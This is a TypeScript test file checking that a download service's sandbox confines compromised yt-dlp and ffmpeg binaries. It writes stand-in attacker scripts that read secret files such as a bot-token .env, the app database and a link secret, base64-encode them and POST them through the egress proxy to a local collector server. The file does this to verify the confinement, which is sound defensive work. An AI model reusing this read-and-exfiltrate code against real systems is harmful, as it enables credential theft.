/**
 * What a taken-over yt-dlp or ffmpeg can do to the files (issue 23): stand-ins
 * for both (YTDLP_PATH, FFMPEG_PATH) act as an attacker who runs code in them
 * would. Each asks its server (through the egress proxy, the one way out) which
 * files to try, tries to read the service's secrets and to write into the
 * checkout, DATA_DIR and /tmp, reports back, and then runs the real tool so that
 * the download goes on. Confined, every read fails, no write shows outside,
 * writing into the job's own directory works and the download succeeds;
 * unconfined (UNSAFE_UNCONFINED_TOOLS), the same stand-ins read the secrets,
 * which shows that the check can fail.
 */
import { randomBytes } from 'node:crypto';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { downloadUrl, type JsonBody, postInfo, startTestApp } from '../support/app-harness.js';
import { type FixtureServer, startFixtureServer } from '../support/fixture-server.js';
import { writeYtdlpOnlyHlsFixture } from '../support/fixtures.js';
import { standInTools } from '../support/tools.js';

const checkout = path.resolve(import.meta.dirname, '..', '..');

interface Report {
  tool: string;
  reads: Record<string, string>;
  writes: Record<string, string>;
  /** Where the run may write (its working directory, or its output's directory), and what happened. */
  own?: { dir: string; outcome: string };
}

/** The attacker's server: hands out the targets, collects what the stand-ins found. */
async function startCollector() {
  const reports: Report[] = [];
  let targets: { read: string[]; write: string[] } = { read: [], write: [] };
  const server = http.createServer((req, res) => {
    if (req.method === 'GET' && req.url === '/targets') {
      return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(targets));
    }
    let body = '';
    req.on('data', (chunk: Buffer) => {
      body += chunk.toString('utf8');
    });
    req.on('end', () => {
      reports.push(JSON.parse(body) as Report);
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  return {
    port,
    reports,
    setTargets: (next: typeof targets) => {
      targets = next;
      reports.length = 0;
    },
    close: () => new Promise((resolve) => server.close(resolve)),
  };
}

/**
 * A stand-in that attacks, then runs `real` with every file descriptor it was
 * given. Runs the real tool at once where no proxy is set (the service's own
 * version checks, which run outside the sandbox).
 */
function writeAttacker(dir: string, name: string, real: string, collectorPort: number): string {
  const file = path.join(dir, name);
  writeFileSync(
    file,
    `#!${process.execPath}
const fs = require('node:fs'), path = require('node:path'), http = require('node:http');
const { spawnSync } = require('node:child_process');
const args = process.argv.slice(2);
const fds = [0, 1, 2];
for (let fd = 3; fd < 16; fd++) { try { fs.fstatSync(fd); fds.push(fd); } catch { break; } }
const runReal = () => process.exit(spawnSync(${JSON.stringify(real)}, args, { stdio: fds }).status ?? 1);
if (!process.env.http_proxy) runReal();
const proxy = new URL(process.env.http_proxy);
const auth = Buffer.from(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)).toString('base64');
const call = (method, where, body) => new Promise((resolve, reject) => {
  const req = http.request({ host: proxy.hostname, port: proxy.port, method, path: 'http://127.0.0.1:${collectorPort}' + where,
    headers: { 'proxy-authorization': 'Basic ' + auth, 'content-type': 'application/json' } }, (res) => {
    let text = ''; res.on('data', (c) => { text += c; }); res.on('end', () => resolve(text));
  });
  req.on('error', reject);
  req.end(body);
});
const outcome = (f) => { try { f(); return 'done'; } catch (e) { return 'refused: ' + (e.code || e.message); } };
(async () => {
  const targets = JSON.parse(await call('GET', '/targets'));
  const report = { tool: ${JSON.stringify(name)}, reads: {}, writes: {} };
  for (const target of targets.read) {
    try { report.reads[target] = fs.readFileSync(target).toString('base64'); } catch (e) { report.reads[target] = 'refused: ' + e.code; }
  }
  for (const target of targets.write) report.writes[target] = outcome(() => fs.writeFileSync(target, 'written by a tool'));
  // Its own place: yt-dlp's working directory in a job, ffmpeg's output file's directory.
  const output = args.at(-1) || '';
  const own = [path.isAbsolute(output) ? path.dirname(output) : '', process.cwd()].find((d) => d.includes('/job-'));
  if (own) report.own = { dir: own, outcome: outcome(() => fs.writeFileSync(path.join(own, 'stand-in-was-here'), 'x')) };
  await call('POST', '/report', JSON.stringify(report));
  runReal();
})().catch((e) => { process.stderr.write(String(e) + '\\n'); process.exit(1); });
`,
  );
  chmodSync(file, 0o755);
  return file;
}

describe('what a taken-over yt-dlp or ffmpeg can do to the files', () => {
  let dir: string;
  let fixtures: FixtureServer;
  let collector: Awaited<ReturnType<typeof startCollector>>;
  let homeSecret: string;
  let playlist: string;
  const secretText = `bot-token-${randomBytes(8).toString('hex')}`;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'tool-view-'));
    playlist = await writeYtdlpOnlyHlsFixture(inject('fixturesDir'), dir);
    fixtures = await startFixtureServer(dir);
    collector = await startCollector();
    // A 0600 .env-like file in the service user's home.
    homeSecret = path.join(os.homedir(), `.tool-view-test-${randomBytes(6).toString('hex')}.env`);
    writeFileSync(homeSecret, `TELEGRAM_BOT_TOKEN=${secretText}\n`, { mode: 0o600 });
  });
  afterAll(async () => {
    await fixtures?.close();
    await collector?.close();
    rmSync(homeSecret, { force: true });
    rmSync(dir, { recursive: true, force: true });
  });

  /** Starts an app with the stand-ins, downloads the HLS link as Matroska (yt-dlp feeds, ffmpeg writes a file). */
  async function attackWith(env: Record<string, string>) {
    const tag = randomBytes(6).toString('hex');
    const tools = standInTools();
    const app = await startTestApp({
      // In the stand-ins' folder, where a confined run can also reach the real tools they start.
      YTDLP_PATH: writeAttacker(tools.bin, `yt-dlp-${tag}`, tools.ytdlp, collector.port),
      FFMPEG_PATH: writeAttacker(tools.bin, `ffmpeg-${tag}`, tools.ffmpeg, collector.port),
      ...env,
    });
    const read = [
      path.join(app.dataDir, 'link-secret'),
      path.join(app.dataDir, 'app.db'),
      homeSecret,
      path.join(checkout, 'package.json'),
    ];
    const write = [
      path.join(checkout, `written-by-a-tool-${tag}`),
      path.join(app.dataDir, `written-by-a-tool-${tag}`),
      path.join(os.tmpdir(), `written-by-a-tool-${tag}`),
    ];
    for (const file of read) expect(existsSync(file), file).toBe(true);
    collector.setTargets({ read, write });
    try {
      const url = fixtures.url(`/${playlist}`);
      const info = await postInfo(app.baseUrl, url);
      expect(info.status, JSON.stringify(info.body)).toBe(200);
      const format = info.body.formats.at(-1) as JsonBody;
      const response = await fetch(
        downloadUrl(app.baseUrl, { url, selector: format.selector, ext: 'mkv', kind: 'video', title: 't' }),
      );
      const body = Buffer.from(await response.arrayBuffer());
      const written = write.filter((file) => existsSync(file));
      return {
        status: response.status,
        bytes: body.length,
        reports: [...collector.reports],
        read,
        written,
        expected: read.map((file) => readFileSync(file).toString('base64')),
      };
    } finally {
      for (const file of write) rmSync(file, { force: true });
      await app.close();
    }
  }

  it('confined: every read fails, no write shows outside, the job directory takes writes, the download succeeds', async () => {
    const outcome = await attackWith({});
    expect(outcome.status).toBe(200);
    expect(outcome.bytes).toBeGreaterThan(1000);
    const tools = new Set(outcome.reports.map((r) => r.tool.replace(/-[0-9a-f]+$/, '')));
    expect([...tools].sort()).toEqual(['ffmpeg', 'yt-dlp']);
    for (const report of outcome.reports) {
      for (const file of outcome.read) expect(report.reads[file], `${report.tool} read ${file}`).toMatch(/^refused/);
    }
    const everything = JSON.stringify(outcome.reports);
    for (const content of outcome.expected) expect(everything).not.toContain(content);
    expect(everything).not.toContain(Buffer.from(secretText).toString('base64'));
    expect(outcome.written).toEqual([]);
    // The runs of the download (yt-dlp in its working directory, ffmpeg beside its output) wrote in the job's directory.
    const inJob = outcome.reports.filter((r) => r.own);
    expect(new Set(inJob.map((r) => r.tool.replace(/-[0-9a-f]+$/, ''))).size).toBe(2);
    for (const report of inJob) expect(report.own?.outcome, report.tool).toBe('done');
  }, 120_000);

  it('unconfined (UNSAFE_UNCONFINED_TOOLS), the same stand-ins read the secrets and write outside', async () => {
    const outcome = await attackWith({ BWRAP_PATH: '/nonexistent/bwrap', UNSAFE_UNCONFINED_TOOLS: 'true' });
    expect(outcome.status).toBe(200);
    const report = outcome.reports.find((r) => r.tool.startsWith('yt-dlp'));
    expect(report).toBeDefined();
    outcome.read.forEach((file, i) => {
      expect(report?.reads[file]).toBe(outcome.expected[i]);
    });
    expect(outcome.written.length).toBe(3);
  }, 120_000);
});
